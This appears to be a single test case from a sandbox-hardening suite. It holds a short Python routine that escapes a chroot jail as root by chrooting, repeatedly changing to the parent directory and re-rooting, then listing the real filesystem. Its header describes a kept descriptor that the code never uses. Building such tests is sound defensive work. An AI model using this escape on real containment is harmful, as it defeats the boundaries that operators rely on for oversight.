# attack: chroot into a directory and climb out of it with a descriptor kept from before
# class: 20
# walls: capabilities seccomp
# needs: syscall
# naked: root

def attempt():
    jail = somewhere()
    syscall("chroot", jail.encode())
    for _ in range(64):
        os.chdir("..")
    syscall("chroot", b".")
    return "changed the root, and now sees " + str(sorted(os.listdir("/"))[:6])

result = judged(attempt)
